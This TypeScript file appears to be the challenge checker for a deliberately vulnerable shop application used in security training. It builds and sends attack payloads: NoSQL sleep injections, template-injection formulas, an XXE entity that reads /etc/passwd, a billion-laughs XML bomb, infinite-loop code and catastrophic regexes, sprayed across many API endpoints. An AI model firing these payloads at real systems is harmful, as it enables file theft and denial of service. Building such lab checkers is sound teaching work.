import { guestForm, orderItem } from '../../deployment/deployment.ts';
import { searchAttempts } from './search-requests.ts';
import {
  sendAllAttempts,
  anyReply,
  replyContains,
  type Challenge,
  type ChallengeContext,
  type Attempt,
} from './challenge.ts';

/** Whether one answer took so long that the words sent must have been obeyed. */
async function slow(shop: ChallengeContext, tries: readonly Attempt[]): Promise<boolean> {
  let slowest = 0;
  for (const one of tries) {
    const begun = performance.now();
    await sendAllAttempts(shop, [one]);
    slowest = Math.max(slowest, performance.now() - begun);
  }
  return slowest > 8_000;
}

const formulas = ['#{7919*7907}', '{{7919*7907}}', '${7919*7907}', '<%= 7919*7907 %>', '{7919*7907}'];

/** Words that a server might carry out, or chew on for ages. */
export const commands: readonly Challenge[] = [
  {
    name: 'NoSQL DoS',
    attack: 'let the database sleep for ten seconds',
    successSign: 'answers that take as long',
    isSolved: (shop) =>
      slow(shop, searchAttempts(shop, ['sleep(10000)', `';sleep(10000);'`, '{"$where":"sleep(10000)"}'])),
  },
  {
    name: 'SSTi',
    attack: 'type formulas into a name, a dish and an address, and look at the pages made of them',
    successSign: 'the result of the formula',
    isSolved: async (shop) => {
      const { market, chef } = shop;
      const name = formulas.join(' ');
      const item = await market.createProduct(chef, { name, description: name });
      const cook = await market.createChef({ name });
      const path = encodeURIComponent(name);
      const html = { Accept: 'text/html' };
      const tries = [
        `/mainpage/product/${item._id}`,
        `/chefitems/${cook._id}`,
        `/search/${path}`,
        `/?q=${path}`,
      ].map((page): Attempt => ['get', page, { headers: html }]);
      const json: Attempt[] = [
        ['get', `/api/products/${item._id}`],
        ['get', `/api/nothing/${path}`],
      ];
      return anyReply(shop, [...tries, ...json], replyContains('62615533'));
    },
  },
  {
    name: 'XXE Data Access',
    attack: 'send XML that reads a file of the server, as data and as a picture',
    successSign: 'what stands in that file',
    isSolved: (shop) =>
      anyReply(
        shop,
        xml(shop, entity('<!ENTITY x SYSTEM "file:///etc/passwd">')),
        replyContains(/root:.*:0:0/),
      ),
  },
  {
    name: 'XXE DoS',
    attack: 'send XML whose words unfold a billion times',
    successSign: 'answers that take long',
    isSolved: (shop) => {
      const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY e${i + 1} "${`&e${i};`.repeat(10)}">`);
      return slow(shop, xml(shop, entity(`<!ENTITY e0 "ha">${laughs.join('')}<!ENTITY x "&e9;">`)));
    },
  },
  {
    name: 'Blocked RCE DoS',
    attack: 'send code that never ends wherever an order takes words',
    successSign: 'answers that take long',
    isSolved: (shop) => slow(shop, code(shop, '(function forever(){while(true);})()')),
  },
  {
    name: 'Successful RCE DoS',
    attack: 'send patterns and words that a careless check chews on for ages',
    successSign: 'answers that take long',
    isSolved: (shop) => {
      const chewy = [
        '/((a+)+)b/.test("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa")',
        `${'a'.repeat(180)}!`,
        '(a+)+$',
        ' '.repeat(190),
      ];
      return slow(shop, [...chewy.flatMap((words) => code(shop, words)), ...searchAttempts(shop, chewy)]);
    },
  },
];

const entity = (definitions: string) =>
  `<?xml version="1.0"?><!DOCTYPE svg [${definitions}]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`;

function xml({ chef }: ChallengeContext, document: string): Attempt[] {
  const { token } = chef;
  const types = ['application/xml', 'text/xml', 'image/svg+xml', 'application/json'];
  const paths = [
    '/api/products',
    '/api/upload',
    '/api/orders/guest',
    '/api/users/login',
    '/file-upload',
    '/b2b/v2/orders',
  ];
  return paths.flatMap((path) =>
    types.map((type): Attempt => [
      'post',
      path,
      { body: document, token, headers: { 'Content-Type': type } },
    ]),
  );
}

function code({ item, thief }: ChallengeContext, words: string): Attempt[] {
  const { token } = thief;
  const form = guestForm([{ ...orderItem(item), qty: words }], {
    userName: words,
    userEmail: words,
    customerPhone: words,
  });
  const register = { name: words, email: `${words}@example.com`, phone: words, password: words };
  return [
    ['post', '/api/orders/guest', { body: form }],
    ['post', '/b2b/v2/orders', { body: { cid: words, orderLinesData: words }, token }],
    ['post', '/api/orders', { body: { orderItems: words, shippingAddress: words }, token }],
    ['post', '/api/users', { body: register }],
    ['post', `/api/products/${item._id}/reviews`, { body: { rating: words, comment: words }, token }],
    ['get', `/api/orders/guest/${encodeURIComponent(words)}`],
  ];
}
